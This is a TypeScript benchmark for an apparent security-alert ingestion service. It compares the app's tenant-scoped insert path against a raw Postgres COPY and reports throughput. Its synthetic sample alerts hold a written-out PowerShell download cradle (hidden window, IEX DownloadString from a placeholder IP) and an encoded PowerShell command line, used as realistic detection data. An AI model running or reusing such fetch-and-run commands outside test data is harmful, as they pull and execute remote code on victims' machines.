// Alert ingestion for `npm run bench -- --only=ingest` (issue 11): the
// database part of POST /alerts, batches of 500, against a raw COPY of the
// same rows into the same tables.
//
//   app path   ingestAlerts (lib/ingest/alerts.ts) exactly as the endpoint
//              calls it: in withTenant as a tenant admin (claims from the
//              access-token hook, SET LOCAL ROLE authenticated, RLS), one
//              INSERT … FROM unnest ON CONFLICT DO NOTHING RETURNING per
//              batch, each alert's raw payload sealed (AES-256-GCM under the
//              tenant DEK) and stored in alert_raw_events. Schema parsing
//              (zod) is timed on its own, since the gateway does it.
//   COPY       as the owner (no RLS), COPY … FROM a CSV file the server reads
//              (no client round trip: the cheapest way in): the same alerts
//              with ids assigned up front, then their sealed raw payloads.
//              The same triggers fire (the workflow arrival trigger, the
//              seal-key check) and the same indexes are maintained.
// Rounds alternate the two sides so both see the same table growth; every
// row has its own external id, so nothing is a duplicate. Goal: the app
// path at >= 0.5x COPY's rows per second. The HTTP part (>= 5,000 alerts/s
// through the gateway) is measured once the gateway exists.
import { randomUUID } from "node:crypto";
import { chmod, mkdtemp, rm, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import pg from "pg";
import type { Caller } from "@/lib/db/claims";
import { withTenant } from "@/lib/db/with-tenant";
import { ingestAlerts } from "@/lib/ingest/alerts";
import { sealingKey, sealRawEvent } from "@/lib/ingest/raw";
import { ingestAlertsBody, type AlertItem } from "@/lib/ingest/schemas";
import { fmtMs, fmtRatio, median } from "./measure";

export interface IngestBenchInput {
  url: string;
  tenantId: string;
  /** A tenant admin of tenantId, active on it. */
  caller: Caller;
  /** Batches per side (default BENCH_INGEST_BATCHES or 20). */
  batches?: number;
  log: (line: string) => void;
}

export const INGEST_BATCH = 500;
const SEVERITIES = ["critical", "high", "medium", "low", "info"] as const;

/** `size` alerts as a sensor sends them, each with its raw vendor payload (also what the HTTP benches post). */
export function benchAlertItems(run: string, n: number, size: number): AlertItem[] {
  const now = Date.now();
  return Array.from({ length: size }, (_, i) => ({
    external_id: `${run}-${n}-${i}`,
    source: "bench-edr",
    title: `Suspicious PowerShell download cradle on host-${i % 97}`,
    severity: SEVERITIES[i % 5],
    description: "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
    rule_name: "T1059.001 encoded command",
    hostname: `host-${i % 97}.corp.example`,
    source_ip: `10.${(i >> 8) & 255}.${i & 255}.${n & 255}`,
    detected_at: new Date(now - i * 1000).toISOString(),
    raw: {
      vendor: "bench-edr",
      event_id: `${run}-${n}-${i}`,
      process: { name: "powershell.exe", pid: 4000 + i, cmdline: "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA" },
      parent: { name: "winword.exe", pid: 3100 },
      user: "CORP\\jdoe",
      tags: ["execution", "defense-evasion"],
    },
  }));
}

function makeBatch(run: string, n: number): AlertItem[] {
  return benchAlertItems(run, n, INGEST_BATCH);
}

const csv = (v: string | null) => (v === null ? "" : `"${v.replace(/"/g, '""')}"`);

/** The same batch as COPY input: alerts.csv and raw.csv (ids assigned here, payloads sealed here). */
async function copyFiles(dir: string, tenantId: string, batch: AlertItem[], key: { version: number; dek: Buffer }) {
  const alerts: string[] = [];
  const raws: string[] = [];
  for (const a of batch) {
    const id = randomUUID();
    alerts.push(
      [tenantId, id, a.title, a.description ?? "", a.severity, a.source, a.external_id, a.rule_name ?? null, a.hostname ?? null, a.source_ip ?? null, a.detected_at ?? null]
        .map((v) => csv(v))
        .join(","),
    );
    const sealed = sealRawEvent(key.dek, { tenantId, alertId: id, keyVersion: key.version }, JSON.stringify(a.raw));
    raws.push(`${tenantId},${id},\\x${sealed.toString("hex")},${key.version}`);
  }
  const alertsFile = path.join(dir, "alerts.csv");
  const rawFile = path.join(dir, "raw.csv");
  // The server process reads them (it may run as another OS user).
  await writeFile(alertsFile, alerts.join("\n") + "\n", { mode: 0o644 });
  await writeFile(rawFile, raws.join("\n") + "\n", { mode: 0o644 });
  return { alertsFile, rawFile };
}

const lit = (s: string) => `'${s.replace(/'/g, "''")}'`;

export async function runIngestBench(input: IngestBenchInput): Promise<string[]> {
  const { log, tenantId, caller } = input;
  const batches = input.batches ?? Number(process.env.BENCH_INGEST_BATCHES ?? 20);
  const run = randomUUID().slice(0, 8);
  const dir = await mkdtemp(path.join(os.tmpdir(), "bench-ingest-"));
  await chmod(dir, 0o755);
  const owner = new pg.Client({ connectionString: input.url });
  await owner.connect();
  const appMs: number[] = [];
  const appNoRawMs: number[] = [];
  const copyMs: number[] = [];
  const copyAlertsOnlyMs: number[] = [];
  const parseMs: number[] = [];
  try {
    const key = await sealingKey(tenantId);
    if (!key) throw new Error("the bench tenant has no data key");
    for (let n = 0; n < batches + 1; n++) {
      const warm = n === 0; // the first round of each side warms caches and is not counted
      // App path, with raw payloads.
      const batch = makeBatch(`${run}-app`, n);
      let t0 = performance.now();
      const parsed = ingestAlertsBody.parse({ alerts: batch });
      if (!warm) parseMs.push(performance.now() - t0);
      t0 = performance.now();
      const result = await withTenant(caller, (tx) => ingestAlerts(tx, tenantId, parsed.alerts));
      if (!warm) appMs.push(performance.now() - t0);
      if (result.summary.created !== INGEST_BATCH) throw new Error(`ingest created ${result.summary.created} of ${INGEST_BATCH}: ${JSON.stringify(result.results.find((r) => r.status !== "created"))}`);

      // App path without raw payloads (what sealing and the second table cost).
      const bare = makeBatch(`${run}-bare`, n).map(({ raw: _raw, ...rest }) => rest);
      const bareParsed = ingestAlertsBody.parse({ alerts: bare });
      t0 = performance.now();
      await withTenant(caller, (tx) => ingestAlerts(tx, tenantId, bareParsed.alerts));
      if (!warm) appNoRawMs.push(performance.now() - t0);

      // COPY of the same rows (sealing done before the clock starts: COPY gets ready-made bytes).
      const files = await copyFiles(dir, tenantId, makeBatch(`${run}-copy`, n), key);
      t0 = performance.now();
      await owner.query("begin");
      await owner.query(
        `copy public.alerts (tenant_id, id, title, description, severity, source, external_id, rule_name, hostname, source_ip, detected_at)
           from ${lit(files.alertsFile)} with (format csv)`,
      );
      await owner.query(`copy public.alert_raw_events (tenant_id, alert_id, sealed, key_version) from ${lit(files.rawFile)} with (format csv)`);
      await owner.query("commit");
      if (!warm) copyMs.push(performance.now() - t0);

      const alertsOnly = await copyFiles(dir, tenantId, makeBatch(`${run}-copy-bare`, n), key);
      t0 = performance.now();
      await owner.query(
        `copy public.alerts (tenant_id, id, title, description, severity, source, external_id, rule_name, hostname, source_ip, detected_at)
           from ${lit(alertsOnly.alertsFile)} with (format csv)`,
      );
      if (!warm) copyAlertsOnlyMs.push(performance.now() - t0);
    }
  } finally {
    await owner.end();
    await rm(dir, { recursive: true, force: true });
  }
  const perSecond = (ms: number[]) => (INGEST_BATCH * 1000) / median(ms);
  const app = perSecond(appMs);
  const copy = perSecond(copyMs);
  const appBare = perSecond(appNoRawMs);
  const copyBare = perSecond(copyAlertsOnlyMs);
  const lines = [
    `batches of ${INGEST_BATCH}, ${batches} per side, median per batch:`,
    `app path (RLS, ON CONFLICT, raw sealed):  ${fmtMs(median(appMs))} ms/batch = ${Math.round(app).toLocaleString("en-US")} alerts/s`,
    `raw COPY, alerts + raw events:            ${fmtMs(median(copyMs))} ms/batch = ${Math.round(copy).toLocaleString("en-US")} alerts/s`,
    `ratio app / COPY: ${fmtRatio(app / copy)} (goal >= 0.5x)`,
    `without raw payloads: app ${Math.round(appBare).toLocaleString("en-US")} alerts/s vs COPY ${Math.round(copyBare).toLocaleString("en-US")} alerts/s = ${fmtRatio(appBare / copyBare)}`,
    `schema parse (zod, per batch of ${INGEST_BATCH}, raw included): ${fmtMs(median(parseMs))} ms`,
  ];
  for (const l of lines) log(`  ${l}`);
  return lines;
}
